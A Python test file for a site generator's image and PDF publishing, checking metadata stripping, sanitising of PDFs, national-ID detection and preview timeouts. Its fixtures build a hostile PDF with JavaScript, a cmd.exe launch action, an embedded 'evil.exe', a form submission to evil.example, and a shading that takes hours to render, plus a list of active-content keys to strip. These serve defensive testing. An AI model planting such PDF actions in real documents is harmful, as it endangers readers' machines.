"""Published photos: the sizes pages need, and nothing of the camera's metadata (GPS above all)."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from PIL import Image

from generator import checks
from generator.render import images
from generator.render.images import PHOTO_WIDTHS, image_set
from generator.render.pdfs import clean_pdf, pdf_preview
from generator.validate import validate_paths
from tests.conftest import CONTENT, FIXTURES

XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>'


@pytest.fixture
def camera_photo(tmp_path: Path) -> Path:
    """A 2400x1600 JPEG as a phone writes it: maker, GPS position, XMP, turned by EXIF."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x0112] = 6  # orientation: rotate 90 degrees to show
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (13.0, 32.0, 10.0), "E", (99.0, 48.0, 5.0)
    path = tmp_path / "camera.jpg"
    Image.new("RGB", (2400, 1600), (120, 160, 200)).save(path, "JPEG", exif=exif.tobytes(), xmp=XMP)
    with Image.open(path) as reopened:
        assert reopened.getexif().get_ifd(0x8825) and "xmp" in reopened.info
    return path


def test_published_copies_have_no_exif_gps_or_xmp(camera_photo: Path, tmp_path: Path) -> None:
    copies = image_set(camera_photo, "agencies/x/files/camera", tmp_path / "cache")
    assert len(copies.variants) == 2 * len(PHOTO_WIDTHS)
    for variant in copies.variants:
        with Image.open(variant.cached) as published:
            assert not published.getexif(), variant.path
            assert not {"exif", "xmp", "XML:com.adobe.xmp", "icc_profile", "comment"} & set(published.info)
            assert published.size == (variant.width, variant.height)
    assert camera_photo.read_bytes().count(b"PhoneMaker") == 1
    assert all(b"PhoneMaker" not in v.cached.read_bytes() for v in copies.variants)


def test_copies_are_resized_to_page_widths_and_turned_upright(camera_photo: Path, tmp_path: Path) -> None:
    copies = image_set(camera_photo, "agencies/x/files/camera", tmp_path / "cache")
    assert [v.width for v in copies.of("image/webp")] == [480, 960, 1600]
    assert [(v.width, v.height) for v in copies.of("image/jpeg")][-1] == (1600, 2400)
    assert copies.fallback.path == "agencies/x/files/camera-1600.jpg"


def test_a_small_photo_is_never_enlarged(tmp_path: Path) -> None:
    small = tmp_path / "small.png"
    Image.new("RGB", (300, 200), "red").save(small)
    copies = image_set(small, "s", tmp_path / "cache")
    assert [v.width for v in copies.variants] == [300, 300]


def test_a_converted_copy_is_reused_on_the_next_build(camera_photo: Path, tmp_path: Path) -> None:
    first = image_set(camera_photo, "a", tmp_path / "cache").fallback.cached
    written = first.stat().st_mtime_ns
    images._image_set.cache_clear()
    again = image_set(camera_photo, "a", tmp_path / "cache").fallback.cached
    assert again == first and again.stat().st_mtime_ns == written


def test_a_scanned_pdf_gets_a_thumbnail_of_its_first_page(tmp_path: Path) -> None:
    scan = CONTENT / "ratchaburi-land-office/attachments/sale-registration-flowchart.pdf"
    preview = pdf_preview(scan, tmp_path)
    with Image.open(preview) as page:
        assert page.width > 300 and page.height > page.width


def test_a_published_pdf_loses_its_author_and_software_metadata(tmp_path: Path) -> None:
    import pikepdf

    source = tmp_path / "scan.pdf"
    with pikepdf.open(CONTENT / "ratchaburi-land-office/attachments/sale-registration-flowchart.pdf") as pdf:
        pdf.docinfo["/Author"] = "นายสมชาย ใจดี"
        pdf.docinfo["/Producer"] = "ScannerApp 1.0"
        with pdf.open_metadata() as meta:
            meta["dc:creator"] = ["นายสมชาย ใจดี"]
        pdf.save(source)
    clean = clean_pdf(source, tmp_path / "cache")
    with pikepdf.open(clean) as published:
        assert not dict(published.docinfo) and "/Metadata" not in published.Root
        assert len(published.pages) == 1
    assert "สมชาย".encode("utf-16-be") not in clean.read_bytes() and b"ScannerApp" not in clean.read_bytes()


def hostile_pdf(path: Path) -> Path:
    """A one-page PDF with every kind of active content a viewer may run, and two plain links."""
    import pikepdf
    from pikepdf import Array, Dictionary, Name, String

    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    page.obj.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (Kept text) Tj ET")
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('pwned')"))

    def action(kind: str, **extra: object) -> pikepdf.Dictionary:
        return Dictionary(S=Name(kind), **extra)

    def link(act: pikepdf.Dictionary, **extra: object) -> pikepdf.Dictionary:
        return pdf.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 10, 10]), A=act, **extra)
        )

    def annotation(**keys: object) -> pikepdf.Dictionary:
        return pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 5, 5]), **keys))

    attached = pdf.make_stream(b"MZ evil program")
    attached.Type = Name.EmbeddedFile
    filespec = pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("evil.exe"), EF=Dictionary(F=attached))
    )
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), Rect=Array([0, 0, 5, 5]),
            AA=Dictionary(K=script), A=action("/SubmitForm", F=String("https://evil.example/collect")),
        )
    )  # fmt: skip
    page.obj.Annots = Array(
        [
            link(action("/URI", URI=String("https://example.go.th/"))),
            link(action("/GoTo", D=Array([page.obj, Name.Fit]))),
            link(action("/URI", URI=String("javascript:alert(1)"))),
            link(action("/URI", URI=String("https://example.go.th/"), Next=script)),
            link(action("/Launch", F=String("cmd.exe"))),
            link(action("/ImportData", F=String("data.fdf"))),
            link(action("/GoToR", F=String("other.pdf"), D=Array([0, Name.Fit]))),
            link(action("/GoToE", T=Dictionary(R=Name.C, N=String("evil.pdf")))),
            link(script, AA=Dictionary(E=script)),
            annotation(Subtype=Name.FileAttachment, FS=filespec),
            annotation(Subtype=Name.RichMedia, RichMediaContent=Dictionary()),
            field,
        ]
    )  # fmt: skip
    page.obj.AA = Dictionary(O=script)
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("run"), pdf.make_indirect(script)])),
        EmbeddedFiles=Dictionary(Names=Array([String("evil.exe"), filespec])),
    )
    outline = pdf.make_indirect(Dictionary(Title=String("Open"), A=script))
    pdf.Root.Outlines = pdf.make_indirect(
        Dictionary(Type=Name.Outlines, First=outline, Last=outline, Count=1)
    )
    outline.Parent = pdf.Root.Outlines
    pdf.save(path)
    return path


ACTIVE = {
    *("/JavaScript", "/JS", "/OpenAction", "/AA", "/AcroForm", "/XFA"),
    *("/EmbeddedFiles", "/EmbeddedFile", "/EF", "/FileAttachment", "/RichMedia", "/RichMediaContent"),
    *("/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE"),
}


def names_in(pdf_path: Path) -> set[str]:
    """Every key and name value anywhere in the object graph of a PDF, and its links' addresses."""
    import pikepdf

    found: set[str] = set()
    with pikepdf.open(pdf_path) as pdf:
        stack: list[object] = [pdf.trailer, *pdf.objects]
        seen: set[tuple[int, int]] = set()
        while stack:
            item = stack.pop()
            if isinstance(item, (pikepdf.Dictionary, pikepdf.Array, pikepdf.Stream)) and item.is_indirect:
                if item.objgen in seen:
                    continue
                seen.add(item.objgen)
            if isinstance(item, (pikepdf.Dictionary, pikepdf.Stream)):
                found.update(item.keys())
                stack.extend(item.values())
            elif isinstance(item, pikepdf.Array):
                stack.extend(item)
            elif isinstance(item, (pikepdf.Name, pikepdf.String)):
                found.add(str(item))
    return found


def test_a_published_pdf_runs_nothing_and_carries_no_attachment(tmp_path: Path) -> None:
    """A citizen's PDF viewer would run a script, open a program or save an attachment from the
    published copy; only the page's own content is kept, links and bookmarks gone too."""
    import pikepdf

    source = hostile_pdf(tmp_path / "hostile.pdf")
    assert names_in(source) >= ACTIVE
    clean = clean_pdf(source, tmp_path / "cache")
    left = names_in(clean)
    assert not ACTIVE & left, ACTIVE & left
    assert "javascript:alert(1)" not in left and "cmd.exe" not in left and "evil.exe" not in left
    assert b"pwned" not in clean.read_bytes() and b"MZ evil" not in clean.read_bytes()
    with pikepdf.open(clean) as published:
        page = published.pages[0]
        assert b"Kept text" in page.Contents.read_bytes()
        assert "/Annots" not in page.obj and "/Outlines" not in published.Root


def test_a_photo_cut_short_after_it_was_checked_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A photo is remembered as checked only as it was: a photo changed since is decoded again."""
    monkeypatch.setattr(checks, "CHECKED", tmp_path / "checked")
    office = tmp_path / "sample-office"
    shutil.copytree(FIXTURES / "valid" / "sample-office", office)
    photo = office / "photos" / "before.png"
    _, problems = validate_paths([office])
    assert not [p for p in problems if p.is_error] and list((tmp_path / "checked").rglob("*"))
    photo.write_bytes(photo.read_bytes()[: photo.stat().st_size // 2])
    _, problems = validate_paths([office])
    assert [(p.code, p.line) for p in problems if p.is_error] == [("image_unreadable", 74)]


def test_a_national_id_in_a_pdfs_text_is_refused_at_its_line(tmp_path: Path) -> None:
    """A scan with a text layer is read like any other text: a citizen's ID number is not published."""
    import pikepdf
    from pikepdf import Dictionary, Name

    office = shutil.copytree(FIXTURES / "valid" / "sample-office", tmp_path / "sample-office")
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    page.obj.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (Applicant 1-1017-00000-00-1) Tj ET")
    (office / "attachments").mkdir()
    pdf.save(office / "attachments" / "form.pdf")
    report = office / "2569.yml"
    scan = "    - kind: public_service\n      scan:\n        file: attachments/form.pdf\n"
    report.write_text(report.read_text(encoding="utf-8").replace("    - kind: public_service\n", scan, 1))
    _, problems = validate_paths([office])
    errors = [p for p in problems if p.is_error]
    assert [(p.code, p.line) for p in errors] == [("national_id_in_pdf", 35)]
    assert "1xxxxxxxxxx01" in errors[0].en and "1017" not in errors[0].en


def test_a_photo_taller_than_webp_allows_is_published_narrowed(tmp_path: Path) -> None:
    """A 100 x 20,000 px strip passes validate, so the build must publish it, not crash."""
    source = tmp_path / "tall.png"
    Image.new("RGB", (100, 20_000), "white").save(source)
    copies = image_set(source, "agencies/x/files/tall", tmp_path / "cache")
    for variant in copies.variants:
        with Image.open(variant.cached) as published:
            assert published.height <= 16383 and published.size == (variant.width, variant.height)


def resource_named_s_pdf(path: Path) -> Path:
    """A plain page whose font is named ``/S``, as some scanners name it, and a direct ``/S [1]``."""
    import pikepdf
    from pikepdf import Array, Dictionary, Name

    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    page = pdf.add_blank_page(page_size=(595, 842))
    page.obj.Resources = Dictionary(Font=Dictionary(S=font), Properties=Dictionary(S=Array([1])))
    page.obj.Contents = pdf.make_stream(b"BT /S 24 Tf 72 720 Td (Flowchart) Tj ET")
    pdf.save(path)
    return path


def test_a_pdf_whose_font_is_named_s_is_accepted_and_published(tmp_path: Path) -> None:
    """A resource named /S (a font, an array) once stopped the build with a Python traceback."""
    source = resource_named_s_pdf(tmp_path / "font-s.pdf")
    assert checks.pdf_problems(source) == []
    import pikepdf

    with pikepdf.open(clean_pdf(source, tmp_path / "cache")) as published:
        assert "/S" in published.pages[0].Resources.Font


def endless_shading_pdf(path: Path, steps: int) -> Path:
    """A small PDF whose page is filled by a shading whose function runs ``steps`` useless steps:
    pdfium takes about 8 ms per step to draw it at preview size (hours for 2,000,000)."""
    import pikepdf
    from pikepdf import Dictionary, Name

    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(595, 842))
    program = b"{ " + b"dup pop " * steps + b"pop pop 0.5 }"
    function = pdf.make_stream(program, FunctionType=4, Domain=[0, 1, 0, 1], Range=[0, 1])
    shading = Dictionary(
        ShadingType=1, ColorSpace=Name.DeviceGray, Domain=[0, 1, 0, 1],
        Matrix=[595, 0, 0, 842, 0, 0], Function=function,
    )  # fmt: skip
    page.obj.Resources = Dictionary(Shading=Dictionary(Sh0=shading))
    page.obj.Contents = pdf.make_stream(b"/Sh0 sh")
    pdf.save(path, compress_streams=True)
    return path


def test_a_pdf_that_takes_hours_to_draw_gets_a_pdf_icon_in_seconds(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """The build once hung for hours on one scan's preview; now it waits a bounded time, shows a
    plain PDF icon, and a warning names the file in Thai and English."""
    import time

    from generator.render import pdfs

    monkeypatch.setattr(pdfs, "PREVIEW_SECONDS", 2.0)
    source = endless_shading_pdf(tmp_path / "shading.pdf", 3000)
    assert checks.pdf_problems(source) == []
    started = time.monotonic()
    preview = pdf_preview(source, tmp_path / "cache")
    assert time.monotonic() - started < 15
    assert preview.name == f"pdf-placeholder-{pdfs.PREVIEW_WIDTH}.png"
    with Image.open(preview) as icon:
        assert icon.size == pdfs.PLACEHOLDER_SIZE and icon.format == "PNG"
    [warning] = capfd.readouterr().err.splitlines()
    assert warning.startswith(f"{source}:1:1: warning: ") and "`shading.pdf`" in warning
    assert "ภาพตัวอย่าง" in warning and "could not be drawn within 2 s" in warning
    assert not list((tmp_path / "cache").glob("*.part"))


def test_a_pdf_that_cannot_be_drawn_gets_the_same_icon_as_a_slow_one(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    """A page pdfium cannot draw at all is published with the PDF icon and one warning line,
    not a failed build or a traceback."""
    from generator.render import pdfs

    broken = tmp_path / "broken.pdf"
    broken.write_bytes(b"%PDF-1.4\n% not a PDF after all\n")
    assert pdf_preview(broken, tmp_path / "cache") == pdfs.placeholder(tmp_path / "cache")
    [warning] = capfd.readouterr().err.splitlines()
    assert ": warning: " in warning and "`broken.pdf`" in warning


def test_a_previewed_pdf_is_drawn_once_and_taken_from_the_cache_after(tmp_path: Path) -> None:
    """A rebuild does not draw a scan's preview again: it is the cached file, unchanged."""
    scan = CONTENT / "ratchaburi-land-office/attachments/sale-registration-flowchart.pdf"
    first = pdf_preview(scan, tmp_path)
    written = first.stat().st_mtime_ns
    assert pdf_preview(scan, tmp_path) == first and first.stat().st_mtime_ns == written
    assert "placeholder" not in first.name
